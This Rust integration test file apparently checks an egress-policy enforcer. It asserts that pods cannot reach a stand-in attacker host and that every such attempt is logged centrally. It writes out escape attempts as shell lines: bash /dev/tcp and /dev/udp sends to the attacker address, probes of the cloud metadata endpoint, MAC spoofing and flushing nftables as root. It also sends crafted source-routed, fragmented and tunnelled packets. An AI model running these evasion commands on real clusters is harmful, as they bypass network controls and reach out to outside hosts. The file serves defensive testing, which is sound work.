//! What a selected pod tries in order to get out, as an ordinary user and as root with every
//! capability in its own namespace: nothing arrives, and all of it is on record for the pod.
//!
//! Each way out is first shown to lead to the attacker from a pod that no policy selects. The oracle
//! is the attacker's own log, and beside it the central record.

#![expect(
    clippy::unwrap_used,
    reason = "a test ends where something is not as it should be"
)]

mod attempts;
mod raw;

use std::{fs, time::Duration};

use serde_json::Value;
use turnpike_rig::{Options, World, cluster, http, pods::Sandbox, wait_for};
use turnpike_vpc::netns::Command;

use attempts::{ATTEMPTS, Attempt, By, OTHERS};

const SOON: Duration = Duration::from_secs(10);
const ATTACKER: &str = "203.0.113.66";
/// The workloads' user, and the one with every capability in its pod.
const USER: u32 = 1000;
const ROOT: u32 = 0;
/// Selected without a sidecar, selected with one, selected by nothing.
const BATCH: (&str, &str) = ("legacy", "batch");
const PAYER: (&str, &str) = ("shop", "payer");
const FREE: (&str, &str) = ("legacy", "caller");
const POLICY: &str = include_str!("../rig/cluster/egress.yaml");

/// All on one node.
fn world(name: &str) -> World {
    let mut world = World::up(Options::test(name), &|_| ()).unwrap();
    world.furnish().unwrap();
    world.directory.write("egress", POLICY).unwrap();
    for ((namespace, pod), app, meshed) in [
        (PAYER, "payment-processor", true),
        (BATCH, "batch", false),
        (FREE, "caller", false),
    ] {
        let workload = cluster::client(namespace, pod, app, "node-b");
        world.start_pod(&workload, meshed).unwrap();
    }
    // A Service whose endpoint is outside, as kube-proxy would write it.
    let service = "table ip kube { chain pre { type nat hook prerouting priority dstnat; \
                   ip daddr 10.96.66.66 tcp dport 80 dnat to 203.0.113.66:8066; }; }";
    let line = ["-c", "nft -f - <<< \"$0\"", service];
    let node = &world.node("node-b").unwrap().namespace;
    let output = Command::new("bash").args(line).output(node).unwrap();
    assert!(output.status.success(), "{output:?}");
    world
}

fn shell(world: &World, (namespace, name): (&str, &str), user: u32, line: &str) {
    let pod = world.pod(namespace, name).unwrap();
    world.exec_as(pod, user, &["bash", "-c", line]).unwrap();
}

#[test]
fn nothing_arrives_and_all_of_it_is_on_record() {
    let world = world("evasion");
    for attempt in ATTEMPTS {
        let before = reached(&world).len();
        let user = match attempt.by {
            By::Line(users, _) => users[0],
            By::Packet(_) => ROOT,
        };
        make(&world, FREE, user, attempt);
        let open = wait_for(SOON, || (reached(&world).len() > before).then_some(()));
        assert!(
            open.is_some(),
            "{} does not get out unpoliced: it shows nothing",
            attempt.what
        );
    }
    let before = reached(&world).len();
    for pod in [BATCH, PAYER] {
        for user in [USER, 1337, 1338, ROOT] {
            if user == ROOT {
                // 18: whoever is root in the pod takes the capture away. The gate stays.
                shell(&world, pod, ROOT, "nft flush ruleset");
            }
            for attempt in ATTEMPTS {
                let tried = match attempt.by {
                    By::Line(users, _) => users.contains(&user),
                    By::Packet(_) => user == ROOT,
                };
                if tried {
                    make(&world, pod, user, attempt);
                }
            }
        }
    }
    others(&world);
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(reached(&world)[before..], [] as [String; 0], "it arrived");
    for pod in [BATCH, PAYER] {
        let missing = || -> Vec<&str> {
            let events = records(&world, pod);
            let there =
                |(protocol, to): (&str, &str)| events.iter().any(|e| is_denied(e, protocol, to));
            let missing = ATTEMPTS.iter().filter(|attempt| !there(attempt.recorded));
            let others = OTHERS
                .iter()
                .filter(|other| !there(other.1))
                .map(|other| other.0);
            missing.map(|attempt| attempt.what).chain(others).collect()
        };
        let complete = wait_for(SOON, || missing().is_empty().then_some(()));
        assert!(
            complete.is_some(),
            "{pod:?}: not on record: {:?}",
            missing()
        );
    }
    assert!(
        wait_for(SOON, || verified(&world).then_some(())).is_some(),
        "the record does not hold"
    );
}

fn others(world: &World) {
    let free = world.pod(FREE.0, FREE.1).unwrap().address;
    for key in [BATCH, PAYER] {
        let pod = world.pod(key.0, key.1).unwrap();
        let own = pod.address;
        raw::send(&pod.namespace, raw::udp(free, 7012));
        shell(
            world,
            key,
            ROOT,
            // A changed address takes the neighbours with it.
            "was=$(cat /sys/class/net/eth0/address); \
             gate=$(ip neigh show 169.254.1.1 | awk '{print $5}'); \
             be() { ip link set eth0 address $1; \
                    ip neigh replace 169.254.1.1 lladdr $gate dev eth0 nud permanent; }; \
             be 02:de:ad:00:00:01; echo x > /dev/udp/203.0.113.66/7013; be $was",
        );
        raw::send(&pod.namespace, raw::source_routed(own, 7014));
        raw::send(&pod.namespace, raw::segment(own, 7015));
        raw::send(&pod.namespace, raw::tunnelled(own));
        shell(
            world,
            key,
            ROOT,
            "timeout 1 bash -c 'echo x > /dev/tcp/169.254.169.254/80'",
        );
        let node = world.ready.instances["node-b"].address;
        shell(
            world,
            key,
            ROOT,
            &format!("timeout 1 bash -c 'echo x > /dev/tcp/{node}/15002'"),
        );
    }
}

fn make(world: &World, key: (&str, &str), user: u32, attempt: &Attempt) {
    match attempt.by {
        By::Line(_, line) => shell(world, key, user, line),
        By::Packet(make) => {
            let pod = world.pod(key.0, key.1).unwrap();
            for packet in make(pod.address).chunks(raw::FRAGMENT) {
                raw::send(&pod.namespace, packet.to_vec());
            }
        }
    }
}

/// What arrived at the attacker, by his own host's log.
fn reached(world: &World) -> Vec<String> {
    let text = fs::read_to_string(&world.ready.internet_log).unwrap_or_default();
    let is_his = |line: &&str| {
        serde_json::from_str::<Value>(line).is_ok_and(|entry| {
            let his = entry["address"] == ATTACKER || entry["host"] == "attacker.example";
            his && entry["event"] != "close"
        })
    };
    text.lines().filter(is_his).map(str::to_owned).collect()
}

/// A pod's events on the central record, newest first.
fn records(world: &World, (namespace, pod): (&str, &str)) -> Vec<Value> {
    let path = format!("/v1/records?namespace={namespace}&pod={pod}&limit=1000");
    events(world, &path)
}

fn events(world: &World, path: &str) -> Vec<Value> {
    let answer = world
        .ask_audit(path)
        .map(|answer| answer.body)
        .unwrap_or_default();
    let records: Vec<Value> = serde_json::from_str(&answer).unwrap_or_default();
    records
        .iter()
        .map(|record| record["event"].clone())
        .collect()
}

fn is_denied(event: &Value, protocol: &str, to: &str) -> bool {
    let named = event["kind"] == "dns" && protocol == "dns" && event["name"] == to;
    let there = event["protocol"] == protocol
        && event["destination"]
            .as_str()
            .is_some_and(|destination| destination.starts_with(to));
    event["verdict"] == "denied" && (named || there)
}

fn verified(world: &World) -> bool {
    let answer = world
        .ask_audit("/v1/verify")
        .map(|answer| answer.body)
        .unwrap_or_default();
    let reports: Vec<Value> = serde_json::from_str(&answer).unwrap_or_default();
    reports.len() == 2
        && reports
            .iter()
            .all(|report| report["problems"] == Value::Array(vec![]))
}

/// Waits for a denied datagram to this port on the pod's record.
fn told(world: &World, pod: (&str, &str), port: u16) -> bool {
    let to = format!("{ATTACKER}:{port}");
    wait_for(SOON, || {
        records(world, pod)
            .iter()
            .any(|e| is_denied(e, "udp", &to))
            .then_some(())
    })
    .is_some()
}

/// Waits for a gap on record whose reason has these words.
fn lapsed(world: &World, words: &str) -> bool {
    let is_it = |event: &Value| {
        event["kind"] == "gap"
            && event["reason"]
                .as_str()
                .is_some_and(|reason| reason.contains(words))
    };
    wait_for(SOON, || {
        events(world, "/v1/records?limit=1000")
            .iter()
            .any(is_it)
            .then_some(())
    })
    .is_some()
}

fn datagram(world: &World, key: (&str, &str), port: u16) {
    shell(
        world,
        key,
        USER,
        &format!("echo x > /dev/udp/{ATTACKER}/{port}"),
    );
}

#[test]
fn what_is_tried_while_a_part_is_away_is_on_record_too() {
    let mut world = world("away");
    let before = reached(&world).len();

    world.node_mut("node-b").unwrap().gate.kill().unwrap();
    std::thread::sleep(Duration::from_millis(200));
    datagram(&world, BATCH, 7101);
    let gate = &mut world.node_mut("node-b").unwrap().gate;
    gate.restart().unwrap();
    gate.ready("127.0.0.1:15022".parse().unwrap(), "/healthz/live", SOON)
        .unwrap();
    assert!(
        told(&world, BATCH, 7101),
        "tried while the gate was away, and not on record"
    );

    world.node_mut("node-b").unwrap().agent.kill().unwrap();
    datagram(&world, BATCH, 7102);
    restart_agent(&mut world);
    assert!(
        lapsed(&world, "while the agent was away"),
        "nobody says that the agent heard nothing"
    );

    flush(&world);
    assert!(
        lapsed(&world, "changed the node's rules"),
        "the flush is not on record"
    );
    datagram(&world, BATCH, 7103);
    assert!(told(&world, BATCH, 7103), "the rules are not back");

    world.node_mut("node-b").unwrap().agent.kill().unwrap();
    flush(&world);
    restart_agent(&mut world);
    assert!(
        lapsed(&world, "were gone when the agent started"),
        "the flush is not on record"
    );
    datagram(&world, BATCH, 7104);
    assert!(told(&world, BATCH, 7104), "the rules are not back");

    // Its last act.
    datagram(&world, BATCH, 7105);
    world.delete_pod(BATCH.0, BATCH.1).unwrap();
    assert!(
        told(&world, BATCH, 7105),
        "it is gone, and what it tried is nobody's"
    );
    assert_eq!(reached(&world).len(), before, "something arrived");
}

fn flush(world: &World) {
    let node = &world.node("node-b").unwrap().namespace;
    let output = Command::new("nft")
        .args(["flush", "ruleset"])
        .output(node)
        .unwrap();
    assert!(output.status.success(), "{output:?}");
}

fn restart_agent(world: &mut World) {
    let agent = &mut world.node_mut("node-b").unwrap().agent;
    agent.restart().unwrap();
    agent
        .ready("127.0.0.1:61678".parse().unwrap(), "/healthz/ready", SOON)
        .unwrap();
}

/// A connection that was allowed ends with the policy that allowed it, and a DEL that found no agent
/// is done by the next one.
#[test]
fn a_revoked_policy_cuts_and_a_missed_del_frees_the_address() {
    let mut world = world("revoked");
    let allowed = format!(
        "{POLICY}  - cidrs: [\"{ATTACKER}/32\"]\n    ports: [{{port: 7201, protocol: TCP}}]\n"
    );
    world.directory.write("egress", &allowed).unwrap();
    let log = world.ready.internet_log.clone();
    let seen = |what: &str| {
        let text = fs::read_to_string(&log).unwrap_or_default();
        text.lines()
            .filter(|line| line.contains(what) && line.contains("7201"))
            .count()
    };
    let opened = wait_for(SOON, || {
        shell(
            &world,
            BATCH,
            USER,
            &format!("timeout 1 bash -c 'echo x > /dev/tcp/{ATTACKER}/7201'"),
        );
        (seen("\"close\"") > 0).then_some(())
    });
    assert!(opened.is_some(), "the policy allows it");
    let before = seen("\"open\"");
    std::thread::scope(|scope| {
        let world = &world;
        let talking = scope.spawn(move || {
            let line = format!(
                "exec 3<>/dev/tcp/{ATTACKER}/7201; while echo x >&3; do sleep 0.02; done; echo cut"
            );
            let pod = world.pod(BATCH.0, BATCH.1).unwrap();
            world
                .exec_as(pod, USER, &["timeout", "15", "bash", "-c", &line])
                .unwrap()
        });
        let talks = wait_for(SOON, || (seen("\"open\"") > before).then_some(()));
        assert!(talks.is_some(), "it is allowed so far");
        world.directory.write("egress", POLICY).unwrap();
        let said = talking.join().unwrap();
        assert!(
            said.out.contains("cut"),
            "it goes on without a policy: {said:?}"
        );
    });
    let revoked = |event: &Value| event["kind"] == "closed" && event["end"] == "revoked";
    // The end of a connection names the connection alone.
    let ends = || events(&world, "/v1/records?limit=1000");
    let cut = wait_for(SOON, || ends().iter().any(revoked).then_some(()));
    assert!(cut.is_some(), "{:?}", ends());

    let before = assigned(&world).unwrap();
    world.node_mut("node-b").unwrap().agent.kill().unwrap();
    let pod = world.pod(BATCH.0, BATCH.1).unwrap();
    let key = (BATCH.0.to_owned(), BATCH.1.to_owned());
    let sandbox = Sandbox {
        node: "node-b",
        key: &key,
        id: pod.uid(),
        namespace: &pod.namespace,
    };
    world.cni("DEL", &sandbox).unwrap();
    let removed = world.node("node-b").unwrap().folder.join("removed");
    assert_eq!(
        fs::read_dir(&removed).unwrap().count(),
        1,
        "the DEL is noted"
    );
    restart_agent(&mut world);
    assert_eq!(
        assigned(&world),
        Some(before - 1.0),
        "the lease is not freed"
    );
    assert_eq!(fs::read_dir(&removed).unwrap().count(), 0, "the note stays");
}

/// How many addresses the agent of node-b has given to pods.
fn assigned(world: &World) -> Option<f64> {
    let node = &world.node("node-b").unwrap().namespace;
    let metrics = http::get(node, "127.0.0.1:61678".parse().unwrap(), "/metrics");
    let metrics = metrics.ok()?.body;
    let name = "awscni_assigned_ip_addresses";
    let line = metrics.lines().find(|line| line.starts_with(name))?;
    line.rsplit(' ').next()?.parse().ok()
}
